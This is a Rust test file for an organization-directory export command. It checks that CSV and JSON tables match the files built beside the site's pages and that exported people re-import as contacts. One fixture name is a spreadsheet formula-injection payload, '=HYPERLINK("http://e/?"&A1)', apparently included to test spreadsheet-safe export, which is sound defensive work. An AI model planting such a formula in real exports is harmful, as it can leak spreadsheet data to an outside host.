//! Tables of all organizations on stdout, and the same beside the lists.

use rosterbook::exports::{ExportOptions, ExportRequest, OrganizationSelector, read_contacts};

use crate::fixture::Fixture;

fn concierge() -> Fixture {
    Fixture::of("concierge")
}

#[test]
fn memberships_of_like_named_groups_come_from_all_organizations_in_one_table() {
    let site = concierge();
    let members = |format: &str| {
        let arguments = ["export", "members", "--group", "Concierge*", "--format"];
        site.run(&[&arguments[..], &[format]].concat()).whole()
    };
    site.expect("members.csv.txt", &members("csv"));
    site.expect("members.json.txt", &members("json"));
}

#[test]
fn each_table_is_whole_and_safe_in_spreadsheets() {
    let site = concierge();
    for table in ["groups", "people", "devices"] {
        let printed = site.run(&["export", table]);
        site.expect(&format!("{table}.csv.txt"), &printed.whole());
    }
}

#[test]
fn people_and_devices_of_a_group_are_those_it_reaches() {
    let site = concierge();
    let names = |table: &str, group: &str| -> Vec<String> {
        let printed = site.run(&["export", table, "--group", group, "--json"]);
        let rows: Vec<serde_json::Value> = serde_json::from_str(&printed.out).expect("JSON");
        let name = |row: &serde_json::Value| row["name"].as_str().expect("a name").to_owned();
        rows.iter().map(name).collect()
    };
    assert_eq!(names("people", "finance"), ["Zoë \"Z\" Lindqvist"]);
    assert_eq!(names("devices", "Night*"), ["CON-LT-014"]);
    assert_eq!(names("devices", "Finance"), [""; 0]);
    assert_eq!(
        names("groups", "5F000000-0000-4000-8000-000000000011"),
        ["concierge"]
    );
}

#[test]
fn unknown_group_gives_an_empty_table_and_a_warning() {
    let printed = concierge().run(&["export", "devices", "--group", "Concierges"]);
    assert_eq!(
        printed.whole(),
        "\"organization\",\"tenant\",\"id\",\"name\",\"device_id\",\"operating_system\",\
         \"operating_system_version\",\"enabled\",\"groups\",\"inherited_groups\",\"match\",\
         \"configuration_id\",\"configuration\",\"url\"\n\
         --- messages, exit code 0\n\
         warning: no documented group is called `Concierges`\n"
    );
}

#[test]
fn tables_beside_the_lists_are_those_of_the_command_line() {
    let site = concierge();
    assert_eq!(site.run(&["build"]).code, 0);
    for organization in ["contoso", "fabrikam"] {
        for table in ["groups", "people", "devices"] {
            let twin = site.text(&format!("public/{organization}/{table}.csv"));
            let printed = site.run(&["export", table, "--org", organization]);
            assert_eq!(twin, printed.out, "{organization} {table}");
        }
    }
    for (page, link) in [
        ("security-groups", "../../contoso/groups.csv"),
        ("microsoft-365-groups", "../../contoso/groups.csv"),
        ("people", "../../contoso/people.csv"),
        ("devices", "../../contoso/devices.csv"),
    ] {
        let html = site.text(&format!("public/contoso/{page}/index.html"));
        assert!(html.contains(&format!("href=\"{link}\"")), "{page}");
    }
}

#[test]
fn table_beside_a_group_is_its_members_on_the_command_line() {
    let site = concierge();
    assert_eq!(site.run(&["build"]).code, 0);
    let rows = site.run(&["export", "groups", "--org", "contoso", "--format", "json"]);
    let rows: serde_json::Value = serde_json::from_str(&rows.out).expect("JSON");
    let rows = rows.as_array().expect("a list");
    assert!(rows.len() > 1);
    for row in rows {
        let (id, url) = (row["id"].as_str(), row["url"].as_str());
        let (id, url) = (id.expect("an id"), url.expect("a page"));
        let folder = url.strip_suffix("/index.html").expect("a page in a folder");
        let twin = site.text(&format!("public/{folder}/members.csv"));
        let printed = site.run(&["export", "members", "--org", "contoso", "--group", id]);
        assert_eq!(twin, printed.out, "{url}");
        let page = site.text(&format!("public/{url}"));
        assert!(page.contains(&format!("{folder}/members.csv\"")), "{url}");
    }
}

#[test]
fn exported_people_are_imported_as_contacts_with_the_same_values() {
    let site = concierge();
    let people = site.run(&["export", "people", "--org", "contoso"]).out;
    site.write("people.csv", people.as_bytes());
    let imported = read_contacts(&ExportRequest {
        root: site.root(),
        paths: &["people.csv".into()],
        organization: &OrganizationSelector {
            key: "contoso".into(),
            name: "Contoso Ltd".into(),
            aliases: Vec::new(),
        },
        options: &ExportOptions::default(),
    })
    .expect("reads");
    assert_eq!(imported.warnings, []);
    let found: Vec<_> = imported
        .records
        .iter()
        .map(|it| (it.id.as_str(), it.name(), it.emails.join(" ")))
        .collect();
    let id = |end: u32| format!("1a000000-0000-4000-8000-{end:012x}");
    assert_eq!(
        found,
        [
            (id(1), "Mira Okafor", "mira@contoso.example"),
            (id(2), "=HYPERLINK(\"http://e/?\"&A1)", ""),
            (id(3), "Zoë \"Z\" Lindqvist", ""),
        ]
        .each_ref()
        .map(|(id, name, mail)| (id.as_str(), (*name).to_owned(), (*mail).to_owned()))
    );
}
